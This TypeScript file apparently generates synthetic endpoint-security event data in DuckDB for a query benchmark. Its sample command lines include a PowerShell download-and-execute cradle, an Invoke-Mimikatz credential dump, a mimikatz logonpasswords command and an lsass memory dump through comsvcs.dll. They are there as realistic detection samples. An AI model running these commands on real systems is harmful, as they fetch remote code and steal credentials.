/** Synthetic DeviceEvents for the benchmark: N rows over ~5,000 devices and 30 days, generated in SQL from hashes. */
import type { DuckDBConnection } from '@duckdb/node-api';

const DAY = 864_000_000_000n;

/** A pseudo-random integer in [0, n) from the row number and a salt. */
const rnd = (salt: number, n: number) => `CAST(hash(i, ${salt}) % ${n} AS BIGINT)`;

/** Picks from `items` by their integer weights (per 10,000), using the draw `r` in [0, 10000). */
function weighted(r: string, items: [string, number][]): string {
  let acc = 0;
  const arms = items.map(([sql, w]) => `WHEN ${r} < ${(acc += w)} THEN ${sql}`);
  return `CASE ${arms.join(' ')} ELSE ${items[items.length - 1][0]} END`;
}

const q = (s: string) => `'${s.replace(/'/g, "''")}'`;
const pick = (salt: number, list: string[]) => `[${list.map(q).join(', ')}][1 + ${rnd(salt, list.length)}]`;

const ACTION_TYPES: [string, number][] = [
  ['AntivirusDefinitionsUpdated', 900], ['AntivirusScanCompleted', 800], ['AntivirusDetection', 150],
  ['AntivirusReport', 100], ['AntivirusDefinitionsUpdateFailed', 50], ['AntivirusScanFailed', 30],
  ['AntivirusScanCancelled', 20], ['AntivirusMalwareActionFailed', 20], ['AntivirusError', 10],
  ['TamperingAttempt', 10], ['PowerShellCommand', 1500], ['DnsQueryResponse', 1800], ['ProcessCreatedUsingWmiQuery', 300],
  ['OpenProcessApiCall', 900], ['CreateRemoteThreadApiCall', 200], ['ScheduledTaskCreated', 150],
  ['ServiceInstalled', 60], ['NamedPipeEvent', 1200], ['LdapSearch', 500], ['FirewallInboundConnectionBlocked', 600],
  ['ExploitGuardNetworkProtectionBlocked', 40], ['SmartScreenUrlWarning', 60], ['UserAccountCreated', 10],
  ['ReadProcessMemoryApiCall', 600],
].map(([a, w]) => [q(a as string), w as number]);

const BIN_FILES = ['svchost.exe', 'MsMpEng.exe', 'powershell.exe', 'cmd.exe', 'explorer.exe', 'chrome.exe',
  'msedge.exe', 'OUTLOOK.EXE', 'WINWORD.EXE', 'rundll32.exe', 'wmiprvse.exe', 'lsass.exe', 'services.exe'];
const MALWARE_FILES = ['invoice_2024.pdf.exe', 'setup.exe', 'keygen.exe', 'update.js', 'payload.dll', 'mimikatz.exe'];
const THREATS = ['Trojan:Win32/Wacatac.B!ml', 'HackTool:Win32/Mimikatz.D', 'Trojan:Script/Wacatac.H!ml',
  'PUA:Win32/Presenoker', 'Ransom:Win32/LockBit.PA!MTB', 'Backdoor:Win32/CobaltStrike.A'];
const USERS = ['alice', 'bob', 'carol', 'dave', 'svc_backup', 'administrator', 'erin', 'frank'];

/** Initiating command lines; a few carry suspicious terms, and some near-misses that `has` must not match. */
const INITIATING: [string, string, number][] = [
  [q('C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'), 'svchost.exe', 3000],
  [q('"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe"'), 'MsMpEng.exe', 2000],
  [`'"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=' || ${rnd(11, 900)}`, 'chrome.exe', 1500],
  [`'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\' || u || '\\AppData\\Local\\Temp\\sc' || ${rnd(12, 1000)} || '.ps1'`, 'powershell.exe', 1200],
  [`'cmd.exe /c "dir C:\\Users\\' || u || '\\Documents > nul"'`, 'cmd.exe', 1000],
  [`'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -enc ' || to_base64(('IEX (New-Object Net.WebClient).DownloadString(''http://10.0.' || ${rnd(13, 255)} || '.7/a'')')::BLOB)`, 'powershell.exe', 150],
  [q('C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'), 'wmiprvse.exe', 600],
  [`'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\' || u || '\\Downloads\\report' || ${rnd(14, 500)} || '.docx"'`, 'WINWORD.EXE', 500],
  [q('mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'), 'mimikatz.exe', 3],
  [q('powershell.exe -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://x/Invoke-Mimikatz.ps1\'); Invoke-MIMIKATZ -DumpCreds"'), 'powershell.exe', 2],
  [q('C:\\Tools\\mimikatz2\\x64\\notmimikatz.exe --help'), 'notmimikatz.exe', 3],
  [q('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full'), 'rundll32.exe', 2],
  [`'C:\\Windows\\Explorer.EXE'`, 'explorer.exe', 40],
];

export async function createDevices(conn: DuckDBConnection, devices: number): Promise<void> {
  await conn.run(`CREATE OR REPLACE TEMP TABLE bench_devices AS
    SELECT d, substr(sha256('device-' || d), 1, 40) AS DeviceId,
      lower(['srv', 'pc', 'lap', 'dc', 'sql', 'web'][1 + CAST(hash(d, 1) % 6 AS BIGINT)] || '-' || lpad(d::VARCHAR, 5, '0')) || '.corp.contoso.com' AS DeviceName,
      ${q('')} || [${USERS.map(q).join(', ')}][1 + CAST(hash(d, 2) % ${USERS.length} AS BIGINT)] AS u
    FROM range(${devices}) AS _d(d)`);
}

/** Inserts `rows` DeviceEvents rows whose Timestamps rise with the row number (as ingestion writes them). */
export async function generateEvents(conn: DuckDBConnection, rows: number, devices: number, nowTicks: bigint): Promise<void> {
  await createDevices(conn, devices);
  // range() is a single-threaded source: materialise the row numbers first so the generating SELECT runs in parallel
  await conn.run(`CREATE OR REPLACE TEMP TABLE bench_ids AS SELECT i FROM range(${rows}) AS _r(i)`);
  const span = 30n * DAY;
  const step = span / BigInt(rows);
  const start = nowTicks - span;
  await conn.run(`INSERT INTO DeviceEvents (Timestamp, DeviceId, DeviceName, ActionType, FileName, FolderPath, SHA1,
      FileSize, AccountDomain, AccountName, ProcessId, ProcessCommandLine, InitiatingProcessFileName,
      InitiatingProcessId, InitiatingProcessCommandLine, InitiatingProcessAccountName, ReportId, AdditionalFields)
    SELECT ts, DeviceId, DeviceName, ActionType,
      CASE WHEN ActionType IN ('AntivirusDetection', 'AntivirusReport', 'AntivirusMalwareActionFailed') THEN ${pick(21, MALWARE_FILES)}
        WHEN ActionType LIKE 'Antivirus%' THEN '' ELSE ${pick(22, BIN_FILES)} END,
      CASE WHEN ActionType = 'AntivirusDetection' THEN 'C:\\Users\\' || u || '\\Downloads' ELSE 'C:\\Windows\\System32' END,
      printf('%016x%016x%08x', hash(i, 40), hash(i, 41), hash(i, 42) % 4294967296), ${rnd(23, 5_000_000)}, 'CORP', u, 1000 + ${rnd(24, 60000)},
      CASE WHEN ActionType IN ('PowerShellCommand', 'ProcessCreatedUsingWmiQuery') THEN 'powershell.exe -Command Get-Process -Id ' || ${rnd(25, 60000)} ELSE '' END,
      ipfn, 1000 + ${rnd(26, 60000)}, ipcl, u, i,
      CASE
        WHEN ActionType = 'AntivirusDetection' THEN json_object('ThreatName', ${pick(27, THREATS)}, 'WasRemediated', ${rnd(28, 10)} > 0, 'Action', 'quarantine')
        WHEN ActionType LIKE 'AntivirusScan%' THEN json_object('ScanTypeIndex', ['Quick', 'Full', 'Custom'][1 + ${rnd(29, 3)}], 'DurationMs', ${rnd(30, 3600000)})
        WHEN ActionType LIKE 'AntivirusDefinitions%' THEN json_object('CurrentSigVersion', '1.403.' || ${rnd(31, 400)} || '.0', 'Engine', '1.1.24030.4')
        ELSE json_object('Source', 'sensor')
      END::VARCHAR
    FROM (
      SELECT i, ts, DeviceId, DeviceName, u, ${weighted('r3', ACTION_TYPES)} AS ActionType, ${weighted('r4', INITIATING.map(([c, , w]) => [c, w]))} AS ipcl,
        ${weighted('r4', INITIATING.map(([, f, w]) => [q(f), w]))} AS ipfn
      FROM (SELECT i, ${start}::BIGINT + i * ${step}::BIGINT + ${rnd(1, Number(step))}::BIGINT AS ts, ${rnd(2, devices)} AS d,
              ${rnd(3, 10_000)} AS r3, ${rnd(4, 10_000)} AS r4
            FROM bench_ids) AS _e
      JOIN bench_devices USING (d)
    ) AS _g`);
  await conn.run('DROP TABLE bench_ids');
}
